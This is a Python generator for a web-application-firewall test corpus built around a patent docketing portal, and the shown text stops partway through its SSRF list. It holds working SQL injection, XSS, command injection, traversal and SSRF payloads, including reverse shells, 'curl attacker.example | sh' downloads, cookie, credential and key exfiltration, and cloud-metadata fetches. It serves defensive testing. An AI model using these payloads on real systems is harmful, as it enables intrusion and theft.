"""Attack held-out corpus for the WAF: a patent & trademark attorney's docketing portal.

Each value is a working payload against a vulnerable version of the portal that puts
the field where the class says (SQL string/number, HTML, shell line, file path, fetched
URL, server-side template / evaluator / deserializer / XML parser / spreadsheet export,
Mongo query, log line / HTTP header / mail header, LDAP filter / XPath expression).
Payloads are hidden in the portal's own notations: publication numbers, CPC codes,
claim text, inventor names, fee codes, goods lists, docket notes.

class = "<context>-<technique>[+<encoding>]"; "plain-" classes carry no domain text.
All literals were hand-written for this corpus; a small share of values is computed by
templates (domain prefixes over hand-written pools, and mechanical encodings of
hand-written payloads).  Output: attacks.jsonl next to this file.  Standard library only.
"""
from __future__ import annotations

import json
import random
from pathlib import Path
from urllib.parse import quote

SEED = 7402
PREFIX = "ha74"

# =========================================================================== sqli
SQLI = [
    ("appno-union-select", "US 2024/0123456 A1' UNION SELECT username, password_hash, NULL FROM users-- -"),
    ("appno-stacked-query", "17/654,321'; DROP TABLE office_actions; --"),
    ("cpc-tautology", "H04L 9/32' OR '1'='1"),
    ("cpc-boolean-blind", "G06F 21/31' AND SUBSTRING((SELECT password FROM users WHERE username='admin'),1,1)='a' AND 'x'='x"),
    ("pubno-time-blind", "PCT/EP2023/012345' AND SLEEP(5)-- -"),
    ("cpc-time-blind", "H04L 9/32'||pg_sleep(10)||'"),
    ("fee-code-numeric-tautology", "1253 OR 1=1"),
    ("fee-code-numeric-union", "1253 UNION SELECT api_key, NULL, NULL FROM integrations"),
    ("pubno-error-based", "WO 2023/187654 A1' AND extractvalue(1, concat(0x7e, (SELECT @@version)))-- "),
    ("inventor-error-based", "Müller' AND (SELECT 1 FROM (SELECT COUNT(*), CONCAT((SELECT database()), FLOOR(RAND(0)*2)) k FROM information_schema.tables GROUP BY k) t)-- "),
    ("cpc-time-blind", "A61K 31/00'; WAITFOR DELAY '0:0:7'--"),
    ("inventor-union-select", "Müller' UNION ALL SELECT NULL, table_name, NULL FROM information_schema.tables WHERE table_schema=database()-- "),
    ("citation-union-select", "D1' UNION SELECT NULL, banner FROM v$version--"),
    ("search-like-union-select", "%' UNION SELECT name, sql FROM sqlite_master--"),
    ("appno-error-based", "EP 3 456 789 B1' AND 1=CAST((SELECT api_token FROM users LIMIT 1) AS int)--"),
    ("sort-field-boolean-blind", "filing_date, (CASE WHEN (SELECT substr(password_hash,1,1) FROM users WHERE id=1)='$' THEN filing_date ELSE 1/0 END)"),
    ("pubno-union-select+comment-space", "EP3456789'/**/UNION/**/SELECT/**/email,password/**/FROM/**/attorneys--"),
    ("claim-union-select+case-mix", "1. A method comprising' uNiOn SeLeCt username, password FrOm users--"),
    ("cpc-union-select+versioned-comment", "H04L 9/32'/*!50000UNION*/ /*!50000SELECT*/ 1,2,group_concat(email)/**/FROM users-- -"),
    ("docket-note-out-of-band", "Call examiner re claim 7'; EXEC master..xp_dirtree '\\\\oob.attacker.example\\share'--"),
    ("docket-note-stacked-program", "ext. approved'; COPY (SELECT '') TO PROGRAM 'curl http://attacker.example/p.sh | sh'--"),
    ("note-insert-values-injection", "Reminder: ask client'), (9999, 'admin', 'pwned', NOW())--"),
    ("inventor-boolean-blind", "O'Neil' AND ASCII(SUBSTRING((SELECT password FROM users WHERE username='admin'),1,1))>77-- "),
    ("prior-art-boolean-blind", "D2' AND EXISTS(SELECT 1 FROM clients WHERE name LIKE 'A%')--"),
    ("search-having-probe", "Smith' HAVING 1=1--"),
    ("search-group-by-enum", "Smith' GROUP BY docket_id, title HAVING 1=1--"),
    ("page-size-procedure-analyse", "10 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x7e,version())),1)"),
    ("art-unit-numeric-time-blind", "2436 AND 1=(SELECT 1 FROM pg_sleep(5))"),
    ("inventor-second-order-update", "O'Brien'); UPDATE users SET role='admin' WHERE email='mallory@attacker.example';--"),
    ("search-like-union-select", "semiconductor%' AND 1=0 UNION SELECT ssn, NULL, NULL FROM inventors-- "),
    ("tm-class-numeric-stacked", "9; DELETE FROM trademarks WHERE 1=1"),
    ("claim-stacked-insert", "1. A method comprising: (a) receiving';INSERT INTO users(email,role) VALUES('x@attacker.example','admin');--"),
    ("oa-response-boolean-blind", "Applicant respectfully disagrees' AND (SELECT COUNT(*) FROM users WHERE role='admin')>1 AND ''='"),
    ("examiner-name-error-based", "SMITH, JOHN A' AND updatexml(1, concat(0x3a, (SELECT user())), 1)-- "),
    ("confirmation-no-union-file-read", "-4321 UNION SELECT 1, load_file('/etc/passwd'), 3"),
    ("pubno-union-outfile", "US 11,234,567 B2' UNION SELECT '<?php system($_GET[\"c\"]); ?>' INTO OUTFILE '/var/www/html/c.php'-- "),
    ("docket-id-mssql-error", "1234-0056US01' AND 1=CONVERT(int, (SELECT TOP 1 name FROM sys.tables))--"),
    ("citation-oracle-time-blind", "Smith et al.' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('x', 8)--"),
    ("citation-oracle-out-of-band", "Jones' || (SELECT UTL_INADDR.GET_HOST_ADDRESS((SELECT user FROM dual)||'.oob.attacker.example') FROM dual) || '"),
    ("date-filter-boolean-blind", "2024-09-14' AND (SELECT length(password) FROM users WHERE id=1)=60 AND '1'='1"),
    ("priority-date-time-blind", "2021-04-12' AND IF(SUBSTRING(user(),1,4)='root', SLEEP(6), 0)-- "),
    ("status-field-tautology", "pending' OR 'a'='a' -- "),
    ("client-ref-sqlite-heavy-query", "ACME-PAT-077' AND (SELECT CASE WHEN substr(sqlite_version(),1,1)='3' THEN randomblob(300000000) ELSE 1 END)--"),
    ("sort-field-conditional", "pub_date DESC, IF((SELECT COUNT(*) FROM users)>5, pub_date, title)"),
    ("cpc-pg-file-read-error", "H01M 10/0525' AND 1=CAST(pg_read_file('/etc/passwd') AS int)--"),
    ("pubno-union-null-probe", "JP 2022-123456 A' UNION SELECT NULL,NULL,NULL,NULL-- -"),
    ("pubno-order-by-probe", "CN 115432109 A' ORDER BY 7-- -"),
    ("appno-union-select", "Appl. No. 17/654,321' AND '1'='1' UNION SELECT current_user, session_user, NULL --"),
    ("inventor-union-hex-literal", "Dvořák' UNION SELECT 0x61646d696e, password FROM users WHERE username=0x61646d696e-- "),
    ("keyword-concat-subquery", "battery' || (SELECT password FROM users WHERE username='admin') || '"),
    ("classification-subquery-blind", "G06F' AND (SELECT COUNT(*) FROM attorneys WHERE bar_no LIKE '1%')>0 -- "),
    ("classification-json-extract", "A61K' AND JSON_EXTRACT((SELECT settings FROM tenants LIMIT 1), '$.smtp_password') IS NOT NULL-- "),
    ("oa-id-mssql-enable-cmdshell", "88213; EXEC sp_configure 'show advanced options', 1; RECONFIGURE; EXEC sp_configure 'xp_cmdshell', 1; RECONFIGURE;--"),
    ("oa-id-mssql-cmdshell", "88213; EXEC xp_cmdshell 'certutil -urlcache -f http://attacker.example/a.exe C:\\Windows\\Temp\\a.exe';--"),
    ("tm-mark-union-select", "SELECT & GO' UNION SELECT owner_email, NULL FROM trademarks-- "),
    ("goods-list-paren-tautology", "Class 9: downloadable software') OR ('1'='1"),
    ("case-id-numeric-blind", "0 OR ASCII(SUBSTR((SELECT token FROM sessions LIMIT 1),1,1))>64"),
    ("inventor-backslash-escape-bypass", "Müller\\' OR 1=1 -- "),
    ("language-field-union-select", "de' UNION SELECT key, value FROM secrets WHERE '1'='1"),
    ("appno-union-select+url", "US%202024%2F0123456%20A1%27%20UNION%20SELECT%20email%2Cpassword%20FROM%20users--%20"),
    ("cpc-tautology+double-url", "H04L%25209%252F32%2527%2520OR%2520%25271%2527%253D%25271"),
    ("cpc-tautology+fullwidth", "H04L 9/32＇ OR ＇1＇＝＇1"),
    ("plain-tautology", "' OR 1=1--"),
    ("plain-union-select", "' UNION SELECT username, password FROM users--"),
    ("plain-time-blind", "1' AND SLEEP(5)#"),
    ("plain-stacked-query", "'; DROP TABLE users; --"),
    ("plain-error-based", "' AND extractvalue(rand(), concat(0x3a, (SELECT password FROM users LIMIT 1)))-- "),
    ("plain-boolean-blind", "admin' AND '1'='2"),
    ("plain-pg-sleep", "';SELECT pg_sleep(10)--"),
]

SQL_PREFIXES = ["US 2024/0123456 A1", "EP 3 456 789 B1", "H04L 9/32", "A61K 31/00", "Müller", "1234-0056US01",
                "WO 2023/187654 A1", "Class 42", "D1"]
SQL_TABLES = [("users", "email, password_hash"), ("attorneys", "bar_no, email"), ("clients", "name, billing_token"),
              ("sessions", "token, user_id"), ("integrations", "name, api_key")]
SQL_DELAYS = [("mysql", "' AND SLEEP({s})-- "), ("pg", "' AND 1=(SELECT 1 FROM pg_sleep({s}))--"),
              ("mssql", "'; WAITFOR DELAY '0:0:{s}'--"), ("sqlite", "' AND 1=like('ABCDEFG',upper(hex(randomblob({s}00000000))))--")]


def tpl_sqli(rng: random.Random) -> list[tuple[str, str]]:
    out = []
    for _ in range(2):
        p = rng.choice(SQL_PREFIXES)
        t, cols = rng.choice(SQL_TABLES)
        out.append(("field-union-select", f"{p}' UNION SELECT {cols} FROM {t}-- -"))
    for _ in range(3):
        db, frag = rng.choice(SQL_DELAYS)
        out.append((f"field-time-blind-{db}", rng.choice(SQL_PREFIXES) + frag.format(s=rng.randint(4, 9))))
    # mechanical encodings of hand-written payloads
    out.append(("pubno-time-blind+url", quote("PCT/EP2023/012345' AND SLEEP(5)-- -", safe="")))
    out.append(("inventor-boolean-blind+double-url", quote(quote("O'Neil' AND 1=1-- ", safe=""), safe="")))
    out.append(("appno-stacked-query+url", quote("17/654,321'; DROP TABLE fee_payments; --", safe="/")))
    out.append(("cpc-union-select+comment-space", "G06N 3/08' UNION SELECT email, password_hash FROM users--".replace(" ", "/**/")))
    base = "H04L 9/32' union select token, user_id from sessions--"
    out.append(("cpc-union-select+case-mix", "".join(c.upper() if rng.random() < 0.5 else c for c in base)))
    out.append(("search-tautology+newline-space", "Smith'\nOR\n1=1\n--"))
    return out


# =========================================================================== xss
XSS = [
    ("claim-script-tag", "1. A method comprising: <script>fetch('https://attacker.example/c?'+document.cookie)</script> receiving a request;"),
    ("cpc-img-onerror", "H04L 9/32 <img src=x onerror=alert(document.domain)>"),
    ("note-textarea-breakout", "Reply filed.</textarea><svg onload=confirm(1)>"),
    ("inventor-attr-breakout-iframe", "Müller\"><iframe src=javascript:alert(1)></iframe>"),
    ("inventor-attr-event-handler", "Zoë\" onmouseover=\"alert(document.cookie)\" x=\""),
    ("title-single-quote-attr-autofocus", "Battery cathode' autofocus onfocus='fetch(`//attacker.example/t?${localStorage.token}`)' x='"),
    ("citation-link-javascript-url", "javascript:alert(document.cookie)//https://patents.google.com/patent/US10987654B2"),
    ("note-details-ontoggle", "<details open ontoggle=alert(1)>Claims 1-5 summary</details>"),
    ("oa-response-mutation-style", "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">"),
    ("claim-svg-animate-onbegin", "wherein <svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("note-body-onpageshow", "<body onpageshow=alert(1)>"),
    ("citation-javascript-url+html-entities", "<a href=\"jav&#x61;script&colon;alert(1)\">D1</a>"),
    ("goods-data-url-link", "<a href=\"data:text/html,<script>alert(origin)</script>\">Class 9 specimen</a>"),
    ("docket-js-string-breakout", "1234-0056US01';alert(String.fromCharCode(88,83,83));//"),
    ("note-script-block-breakout", "</script><script>alert(document.domain)</script>"),
    ("pubno-js-template-breakout", "EP 3 456 789`+alert(document.cookie)+`"),
    ("note-angularjs-csti", "Check claim {{constructor.constructor('alert(1)')()}} before filing"),
    ("note-angularjs-csti-on", "Fee 1253 {{$on.constructor('alert(document.cookie)')()}}"),
    ("form-input-autofocus", "<input autofocus onfocus=alert(1)>"),
    ("note-video-source-onerror", "<video><source onerror=\"alert(1)\"></video>"),
    ("citation-object-data", "<object data=\"javascript:alert(document.domain)\"></object>"),
    ("note-css-import", "<style>@import '//attacker.example/steal.css';</style>Prior art list"),
    ("note-base-href-hijack", "<base href=\"https://attacker.example/\">See attached Fig. 3"),
    ("oa-meta-refresh", "<meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/uspto-login\">"),
    ("docket-form-phishing", "<form action=\"https://attacker.example/login\" method=post>Session expired – re-enter password: <input type=password name=pw><button>Continue</button></form>"),
    ("note-marquee-onstart", "<marquee onstart=alert(1)>URGENT: fee code 1253</marquee>"),
    ("comment-contenteditable-onblur", "<p contenteditable onblur=alert(1)>edit claim 3 here</p>"),
    ("markdown-link-javascript", "See [D1](javascript:alert(document.cookie)) for the union step."),
    ("markdown-image-attr-breakout", "![Fig. 2](x\"onerror=\"alert(1))"),
    ("figure-svg-script-href", "<svg><script href=\"data:,alert(1)\"></script></svg>"),
    ("note-iframe-srcdoc+html-entities", "<iframe srcdoc=\"&lt;script&gt;parent.alert(1)&lt;/script&gt;\"></iframe>"),
    ("note-img-onerror-base64-eval", "<img src=1 onerror=eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))>"),
    ("cpc-svg-onload-tagged-template", "G06F 21/577<svg/onload=alert`1`>"),
    ("abstract-script-tag+case-mix", "<ScRiPt>alert(1)</sCrIpT> The present invention relates to valves."),
    ("json-note+unicode-escape", "{\"note\":\"\\u003cimg src=x onerror=alert(1)\\u003e\"}"),
    ("chem-formula-sub-breakout", "CH<sub>3</sub>COOH</sub><img src=x onerror=alert(1)>"),
    ("figure-svg-link-javascript", "<svg><a xlink:href=\"javascript:alert(1)\"><text x=10 y=20>Fig. 4</text></a></svg>"),
    ("inventor-title-breakout", "Jürgen Müller</title><script>alert(1)</script>"),
    ("comment-noscript-mutation", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
    ("pubno-href-attr-event", "US10987654B2\" onclick=\"alert(1)"),
    ("cpc-select-option-breakout", "H04L</option></select><img src=x onerror=alert(1)>"),
    ("claim-onanimationstart", "<style>@keyframes k{}</style><b style=\"animation-name:k\" onanimationstart=\"alert(1)\">claim 1</b>"),
    ("note-onpointerenter-beacon", "<div onpointerenter=\"navigator.sendBeacon('https://attacker.example/b', document.cookie)\">hover to see deadline</div>"),
    ("figure-img-srcset-onerror", "<img srcset=\",,,,x\" onerror=alert(1)>"),
    ("figure-svg-use-data-url", "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x\"/></svg>"),
    ("note-dom-clobbering", "<form id=config><input name=apiBase value=\"https://attacker.example\"></form>"),
    ("citation-leading-space-javascript", "<a href=\"  javascript:alert(1)\">EP 3 456 789</a>"),
    ("citation-javascript-url+tab-split", "<a href=\"java\tscript:alert(1)\">WO 2023/187654</a>"),
    ("note-onwheel", "<div onwheel=alert(1) style=\"height:2000px\">Scroll the prior-art list</div>"),
    ("figure-src-unquoted-attr", "fig3.png onerror=alert(1) x="),
    ("rich-text-onclick-exfil", "<p>Claim 1 <a href=\"#\" onclick=\"fetch('/api/users').then(r=>r.text()).then(t=>fetch('https://attacker.example/x',{method:'POST',body:t}))\">(see spec)</a></p>"),
    ("cpc-tooltip-attr-breakout", "G06F 21/577\" title=\"x\"><svg onload=alert(1)>"),
    ("claim-multiline-img", "1. A system comprising:\n  a processor;\n  <img src=x\n onerror=alert(1)>\n  a memory."),
    ("note-script-tag+url", "%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E"),
    ("figure-img-onerror+html-entities", "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>"),
    ("abstract-script-tag+unicode-escape", "<script>\\u0061lert(document.domain)</script>"),
    ("note-style-breakout", "</style><script>alert(1)</script>"),
    ("note-html-comment-breakout", "--><script>alert(1)</script><!--"),
    ("plain-script-tag", "<script>alert(1)</script>"),
    ("plain-img-onerror", "<img src=x onerror=alert(1)>"),
    ("plain-svg-onload", "<svg onload=alert(1)>"),
    ("plain-iframe-javascript", "<iframe src=\"javascript:alert(1)\">"),
    ("plain-body-onload", "<body onload=alert(document.cookie)>"),
    ("plain-a-javascript", "<a href=javascript:alert(1)>x</a>"),
]

XSS_CONTEXTS = ["Claim 4: ", "Note re EP 3 456 789 — ", "Class 9: downloadable software; ", "Fig. 3 caption: ",
                "D2 summary: ", "Inventor: Łukasz Wiśniewski ", "Reminder (fee 1253) "]
XSS_SINKS = ["<img src=x onerror=alert(document.domain)>", "<svg onload=fetch('//attacker.example/'+document.cookie)>",
             "<iframe src=javascript:alert(origin)>", "<details open ontoggle=confirm(1)>",
             "<input onfocus=alert(1) autofocus>", "<script src=https://attacker.example/x.js></script>"]


def tpl_xss(rng: random.Random) -> list[tuple[str, str]]:
    out = []
    for _ in range(6):
        out.append(("field-html-injection", rng.choice(XSS_CONTEXTS) + rng.choice(XSS_SINKS)))
    out.append(("note-img-onerror+url", quote("<img src=x onerror=alert(document.domain)>", safe="=")))
    out.append(("note-svg-onload+double-url", quote(quote("<svg onload=alert(1)>", safe=""), safe="")))
    js = "alert(document.cookie)"
    out.append(("figure-onerror+html-decimal", "<img src=x onerror=" + "".join(f"&#{ord(c)};" for c in js) + ">"))
    out.append(("json-field+unicode-escape", "".join(f"\\u{ord(c):04x}" if c in "<>\"" else c for c in "<svg onload=alert(1)>")))
    out.append(("citation-javascript-url+html-hex", "<a href=\"" + "".join(f"&#x{ord(c):x};" for c in "javascript:") + "alert(1)\">D3</a>"))
    base = "<svg onload=alert(1)>"
    out.append(("cpc-svg-onload+case-mix", "H04L 9/32 " + "".join(c.upper() if rng.random() < 0.5 else c for c in base)))
    return out


# =========================================================================== cmdi
CMDI = [
    ("pdf-export-semicolon", "US20240123456A1.pdf; curl -s http://attacker.example/x.sh | sh"),
    ("pubno-and-chain", "EP3456789B1 && wget -qO- http://203.0.113.7/a | bash"),
    ("figure-file-pipe-netcat", "fig3.png | nc 198.51.100.4 4444 -e /bin/sh"),
    ("filename-subshell", "claims_$(id).docx"),
    ("filename-backticks", "`whoami`.pdf"),
    ("filename-time-blind", "claims.docx$(sleep 10)"),
    ("ocr-lang-semicolon", "deu; cat /etc/passwd"),
    ("appno-or-chain", "17/654,321 || ping -c 10 127.0.0.1"),
    ("filename-newline", "report.pdf\nid > /tmp/out"),
    ("filename-ifs-space", "x;cat${IFS}/etc/passwd"),
    ("filename-brace-expansion", "x;{cat,/etc/shadow}"),
    ("pubno-windows-ampersand", "WO2023187654.pdf & type C:\\Windows\\win.ini"),
    ("pubno-windows-powershell", "EP3456789.pdf | powershell -nop -c \"iwr http://attacker.example/p.ps1 | iex\""),
    ("download-url-argument-injection", "--output /var/www/html/shell.php http://attacker.example/shell.txt"),
    ("sftp-host-argument-injection", "-oProxyCommand=sh -c 'id > /tmp/p'"),
    ("archive-member-argument-injection", "--checkpoint=1 --checkpoint-action=exec=sh x.sh"),
    ("repo-url-argument-injection", "--upload-pack=touch /tmp/pwned"),
    ("search-term-argument-injection", "-exec sh -c 'curl attacker.example/$(hostname)' ;"),
    ("notify-email-argument-injection", "attorney@example.com -X/var/www/html/log.php -OQueueDirectory=/tmp"),
    ("zip-name-argument-injection", "fig.zip -T -TT 'sh -c id #'"),
    ("filename-subshell-exfil", "claims.pdf$(curl -d @/etc/passwd http://attacker.example/u)"),
    ("figure-reverse-shell", "fig1.tif; bash -i >& /dev/tcp/203.0.113.9/443 0>&1"),
    ("plain-python-reverse-shell", "; python3 -c 'import socket,subprocess,os;s=socket.create_connection((\"203.0.113.9\",443));[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call([\"/bin/sh\",\"-i\"])'"),
    ("inventor-single-quote-breakout", "Müller';id;'"),
    ("note-double-quote-breakout", "Notes\"; rm -rf /tmp/docket_cache; echo \""),
    ("filename-glob-obfuscation", "x;/???/??t /???/p??s??"),
    ("filename-base64-pipe", "x; echo aWQ7dW5hbWUgLWE= | base64 -d | sh"),
    ("figure-dns-exfil", "fig2.png`nslookup $(whoami).oob.attacker.example`"),
    ("resize-param-semicolon", "800x600; touch /tmp/x"),
    ("ocr-page-range-subshell", "1-5 $(uname -a > /var/www/html/u.txt)"),
    ("cpc-env-exfil", "A61K;curl http://attacker.example/?k=$AWS_SECRET_ACCESS_KEY"),
    ("filename-perl-pipe", "x| perl -e 'print `id`'"),
    ("filename-cron-persistence", "; (crontab -l; echo '* * * * * curl -s attacker.example/b|sh') | crontab -"),
    ("filename-ssh-key-write", "; mkdir -p ~/.ssh; echo 'ssh-ed25519 AAAAFAKEKEYPLACEHOLDER attacker' >> ~/.ssh/authorized_keys"),
    ("pubno-windows-crlf", "EP3456789.pdf\r\nnet user helpdesk FakePass-Placeholder1 /add"),
    ("filename-windows+caret-obfuscation", "x & w^h^o^a^m^i"),
    ("filename-semicolon+quote-split", "x; w'h'o'am'i"),
    ("filename-semicolon+backslash-split", "x; c\\at /e\\tc/pa\\sswd"),
    ("filename-variable-concat", "x; a=ca;b=t;$a$b /etc/hostname"),
    ("filename-subshell+hex-escape", "x; $(printf '\\x69\\x64')"),
    ("filename-positional-param-split", "x;wh$@oami"),
    ("filename-tee-webshell", "x; echo '<?php system($_GET[0]);' | tee /var/www/html/s.php"),
    ("filename-process-substitution", "x; bash <(curl -s http://attacker.example/s)"),
    ("cpc-and-sleep", "H04L && sleep 7"),
    ("pubno-windows-ping-delay", "WO2023187654 & ping -n 8 127.0.0.1 &"),
    ("filename-input-redirect", "x; cat < /etc/passwd"),
    ("filename-symlink", "x; ln -s /etc/passwd /srv/docket/files/p.txt"),
    ("filename-awk-system", "x; awk 'BEGIN{system(\"id\")}'"),
    ("filename-find-exfil", "x; find / -name '*.pem' -exec curl -F f=@{} http://attacker.example/u \\;"),
    ("filename-wget-post-file", "x && wget --post-file=/etc/shadow http://198.51.100.23/"),
    ("docket-note-subshell", "Call client re: ext. $(curl attacker.example/n|sh)"),
    ("claim-text-backticks", "wherein the controller `wget -q -O- attacker.example/c|sh` selects a mode"),
    ("chem-name-semicolon", "2-amino-3-(4-hydroxyphenyl)propanoic acid; nc -e /bin/sh 203.0.113.12 9001"),
    ("filename-newline+url", "report.pdf%0Aid%0A"),
    ("figure-semicolon+url", "fig3.png%3Bcat%20%2Fetc%2Fpasswd"),
    ("plain-semicolon-id", "; id"),
    ("plain-pipe-cat", "| cat /etc/passwd"),
    ("plain-subshell", "$(whoami)"),
    ("plain-backticks", "`uname -a`"),
    ("plain-and-chain", "&& curl http://attacker.example/x | sh"),
    ("plain-newline", "\nwhoami"),
]

CMD_FILES = ["US20240123456A1.pdf", "EP3456789B1_claims.docx", "fig4.tiff", "PCT-EP2023-012345.xml",
             "OA_2024-07-15.pdf", "Müller_declaration.pdf", "goods_list_cl9.txt"]
CMD_SEPS = ["; ", " && ", " | ", " || ", "\n", "$(", "`"]
CMD_CMDS = ["id", "cat /etc/passwd", "curl -s http://attacker.example/i | sh", "sleep 8",
            "wget -q http://198.51.100.7/x -O /tmp/x", "uname -a", "nslookup oob.attacker.example"]


def tpl_cmdi(rng: random.Random) -> list[tuple[str, str]]:
    out = []
    for _ in range(8):
        f, s, c = rng.choice(CMD_FILES), rng.choice(CMD_SEPS), rng.choice(CMD_CMDS)
        if s == "$(":
            v = f"{f}$({c})"
        elif s == "`":
            v = f"{f}`{c}`"
        else:
            v = f"{f}{s}{c}"
        out.append(("filename-command-separator", v))
    out.append(("filename-subshell+url", quote("claims.pdf$(curl attacker.example/q|sh)", safe="")))
    out.append(("filename-semicolon+double-url", quote(quote("fig.png; id", safe=""), safe="")))
    out.append(("filename-ifs-space+url", quote("x;curl${IFS}attacker.example/z|sh", safe="")))
    return out


# =========================================================================== traversal
TRAVERSAL = [
    ("figure-file-dotdot", "../../../../etc/passwd"),
    ("figure-file-windows-backslash", "..\\..\\..\\..\\Windows\\win.ini"),
    ("attachment-subdir-escape", "figures/../../../../proc/self/environ"),
    ("pdf-name-dotdot+url", "..%2f..%2f..%2f..%2fetc%2fpasswd"),
    ("pdf-name-dotdot+double-url", "..%252f..%252f..%252fetc%252fpasswd"),
    ("pdf-name-dotdot+overlong-utf8", "..%c0%af..%c0%af..%c0%afetc/passwd"),
    ("attachment-strip-once-bypass", "....//....//....//etc/passwd"),
    ("attachment-absolute-path", "/etc/shadow"),
    ("pdf-name-null-byte+url", "../../../etc/passwd%00.pdf"),
    ("download-path-param-bypass", "..;/..;/WEB-INF/web.xml"),
    ("attachment-proc-self-cwd", "/proc/self/cwd/config/settings.py"),
    ("attachment-log-read", "../../../../../var/log/nginx/access.log"),
    ("attachment-windows-absolute", "C:\\inetpub\\wwwroot\\web.config"),
    ("attachment-unc-path", "\\\\203.0.113.5\\share\\claims.pdf"),
    ("archive-entry-zip-slip", "../../../../var/www/html/x.php"),
    ("pdf-name-backslash+url", "..%5c..%5c..%5cboot.ini"),
    ("attachment-ssh-key", "/srv/docket/files/../../../root/.ssh/id_rsa"),
    ("attachment-dotenv", "../.env"),
    ("attachment-git-config", "../../.git/config"),
    ("attachment-app-settings", "../../app/settings.py"),
    ("attachment-k8s-token", "../../../../var/run/secrets/kubernetes.io/serviceaccount/token"),
    ("attachment-aws-credentials", "../../../../home/app/.aws/credentials"),
    ("pubno-as-path", "US2024/../../../../etc/hosts"),
    ("pct-number-as-path", "PCT/EP2023/../../../../etc/passwd"),
    ("cpc-code-as-path", "H04L 9/../../../../../etc/group"),
    ("attachment-mixed-separators", "..\\/..\\/..\\/etc/passwd"),
    ("attachment-dot-segments", "docs/./.././.././../etc/passwd"),
    ("attachment-windows-ads", "..\\..\\web.config::$DATA"),
    ("attachment-windows-short-name", "..\\..\\PROGRA~1\\docket\\config.ini"),
    ("attachment-dotdot+fullwidth", "．．/．．/．．/etc/passwd"),
    ("attachment-dotdot+iis-unicode", "..%u2215..%u2215etc%u2215passwd"),
    ("template-name-escape", "templates/../../../../etc/passwd"),
    ("docx-part-escape", "word/../../../../../etc/ssl/private/server.key"),
    ("attachment-proc-maps", "/proc/self/maps"),
    ("attachment-pg-hba", "../../../var/lib/postgresql/data/pg_hba.conf"),
    ("export-target-cron-write", "../../../../etc/cron.d/docket"),
    ("attachment-database-yml", "../config/database.yml"),
    ("attachment-bash-history", "../../../../root/.bash_history"),
    ("attachment-sqlite-db", "../../data/docket.sqlite3"),
    ("json-attachment-field", "{\"attachment\": \"../../../etc/passwd\", \"docket\": \"1234-0056US01\"}"),
    ("plain-dotdot", "../../../etc/passwd"),
    ("plain-windows-dotdot", "..\\..\\..\\boot.ini"),
    ("plain-absolute", "/etc/passwd"),
    ("plain-deep-dotdot", "../../../../../../../../../../etc/hosts"),
]

TRAV_PREFIXES = ["figures/", "uploads/EP3456789/", "office_actions/2024/", "drawings/US2024-0123456/", "tm/specimens/", ""]
TRAV_TARGETS = ["etc/passwd", "etc/shadow", "proc/self/environ", "root/.ssh/authorized_keys", "app/.env",
                "var/www/docket/config.php", "etc/nginx/nginx.conf"]


def tpl_traversal(rng: random.Random) -> list[tuple[str, str]]:
    out = []
    for _ in range(6):
        depth = rng.randint(3, 8)
        out.append(("attachment-dotdot", rng.choice(TRAV_PREFIXES) + "../" * depth + rng.choice(TRAV_TARGETS)))
    t = "../../../../" + rng.choice(TRAV_TARGETS)
    out.append(("attachment-dotdot+url", quote(t, safe="")))
    out.append(("attachment-dotdot+double-url", quote(quote(t, safe=""), safe="")))
    out.append(("attachment-windows+url", quote("..\\..\\..\\..\\Windows\\System32\\drivers\\etc\\hosts", safe="")))
    out.append(("attachment-dotdot+dot-encoded", "%2e%2e/" * 4 + "etc/passwd"))
    return out


# =========================================================================== ssrf
SSRF = [
    ("citation-url-cloud-metadata", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("citation-url-gcp-metadata", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
    ("import-url-loopback-admin", "http://127.0.0.1:8080/admin"),
    ("import-url-ipv6-loopback", "http://[::1]:6379/"),
    ("import-url-loopback+decimal-ip", "http://2130706433/server-status"),
    ("import-url-loopback+hex-ip", "http://0x7f000001/"),
    ("import-url-loopback+octal-ip", "http://0177.0.0.1/"),
    ("import-url-loopback+short-ip", "http://127.1/"),
    ("webhook-gopher-redis", "gopher://127.0.0.1:6379/_CONFIG%20SET%20dir%20%2Fvar%2Fspool%2Fcron%0D%0A"),
    ("import-url-file-scheme", "file:///etc/passwd"),
    ("import-url-dict-memcached", "dict://127.0.0.1:11211/stats"),
    ("citation-url-dns-rebinding", "http://rebind.attacker.example:8000/latest/meta-data/"),
    ("citation-url-userinfo-confusion", "https://patents.google.com@127.0.0.1/"),
    ("citation-url-fragment-confusion", "https://worldwide.espacenet.com#@169.254.169.254/latest/meta-data/"),
    ("citation-url-metadata+ipv4-mapped-ipv6", "http://[::ffff:169.254.169.254]/latest/meta-data/"),
    ("citation-url-wildcard-dns", "http://169.254.169.254.attacker.example/latest/user-data"),
    ("citation-url-alibaba-metadata", "http://100.100.100.200/latest/meta-data/"),
    ("import-url-internal-elasticsearch", "http://10.0.0.5:9200/_cat/indices?v"),
    ("citation-url-aws-ipv6-metadata", "http://[fd00:ec2::254]/latest/meta-data/"),
    ("citation-url-open-redirect", "https://attacker.example/r?to=http://169.254.169.254/latest/api/token"),
    ("import-url-jar-scheme", "jar:http://attacker.example/x.jar!/META-INF/MANIFEST.MF"),
    ("import-url-zero-ip", "http://0/"),
    ("import-url-ldap-scheme", "ldap://127.0.0.1:389/dc=internal"),
    ("webhook-k8s-api", "https://kubernetes.default.svc/api/v1/namespaces/default/secrets"),
    ("webhook-docker-api", "http://127.0.0.1:2375/containers/json"),
    ("webhook-consul-api", "http://localhost:8500/v1/agent/self"),
    ("citation-url-azure-metadata", "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/"),
    ("import-url-loopback+enclosed-alnum", "http://①②⑦.⓪.⓪.①/"),
    ("import-url-unspecified-ipv6", "http://[::]:8000/"),
